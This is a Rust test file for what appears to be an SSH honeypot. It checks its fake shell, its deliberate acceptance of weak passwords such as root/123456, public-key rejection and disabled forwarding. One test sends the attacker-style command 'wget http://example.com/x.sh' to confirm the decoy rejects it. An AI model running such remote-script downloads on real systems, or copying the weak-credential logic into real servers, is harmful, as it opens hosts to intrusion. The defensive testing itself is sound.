//! End-to-end tests: a russh client against an in-process server

#[allow(dead_code)]
mod common;

use common::*;
use russh::Disconnect;

#[tokio::test]
async fn test_shell_logout_exits_zero_and_releases_host() {
    let server = start_server(&TestConfigBuilder::new().build()).await;
    let session = login(server.addr, "root", "123456").await;

    let mut channel = session.channel_open_session().await.unwrap();
    channel
        .request_pty(true, "xterm", 80, 24, 0, 0, &[])
        .await
        .unwrap();
    channel.request_shell(true).await.unwrap();
    channel.data(&b"logout\r"[..]).await.unwrap();

    let outcome = drain(&mut channel).await;
    assert_eq!(outcome.exit_status, Some(0));
    assert!(outcome.closed);
    assert!(outcome.output.contains("$ "));
    assert!(outcome.output.contains("logout"));

    session
        .disconnect(Disconnect::ByApplication, "", "en")
        .await
        .unwrap();
    assert!(wait_for_release(&server.limiter).await);
}

#[tokio::test]
async fn test_exec_runs_one_command() {
    let server = start_server(&TestConfigBuilder::new().build()).await;
    let session = login(server.addr, "root", "123456").await;

    let mut channel = session.channel_open_session().await.unwrap();
    channel.exec(true, "whoami").await.unwrap();
    let outcome = drain(&mut channel).await;
    assert_eq!(outcome.output, "root\r\n");
    assert_eq!(outcome.exit_status, Some(0));

    let mut channel = session.channel_open_session().await.unwrap();
    channel.exec(true, "wget http://example.com/x.sh").await.unwrap();
    let outcome = drain(&mut channel).await;
    assert_eq!(outcome.output, "wget: command not found\r\n");
    assert_eq!(outcome.exit_status, Some(127));
}

#[tokio::test]
async fn test_wrong_password_accepted_on_last_try() {
    let server = start_server(&TestConfigBuilder::new().max_tries(3).build()).await;
    let mut session = connect(server.addr).await;

    for password in ["admin", "password"] {
        let auth = session.authenticate_password("root", password).await.unwrap();
        assert!(!auth.success());
    }
    let auth = session.authenticate_password("root", "qwerty").await.unwrap();
    assert!(auth.success());
}

#[tokio::test]
async fn test_unknown_user_rejected() {
    let config = TestConfigBuilder::new().allow_retry_login(false).build();
    let server = start_server(&config).await;
    let mut session = connect(server.addr).await;

    let auth = session.authenticate_password("oracle", "oracle").await.unwrap();
    assert!(!auth.success());
}

#[tokio::test]
async fn test_forwarding_disabled_by_default() {
    let server = start_server(&TestConfigBuilder::new().build()).await;
    let session = login(server.addr, "root", "123456").await;

    let result = session
        .channel_open_direct_tcpip("127.0.0.1", 80, "127.0.0.1", 40000)
        .await;
    assert!(result.is_err());
}

#[tokio::test]
async fn test_public_key_always_rejected() {
    let server = start_server(&TestConfigBuilder::new().build()).await;
    let mut session = connect(server.addr).await;

    let key = mirage::ssh::keys::generate_ed25519_key().unwrap();
    let key = russh::keys::PrivateKeyWithHashAlg::new(std::sync::Arc::new(key), None);
    let auth = session.authenticate_publickey("root", key).await.unwrap();
    assert!(!auth.success());

    // the password method is still open afterwards
    let auth = session.authenticate_password("root", "123456").await.unwrap();
    assert!(auth.success());
}
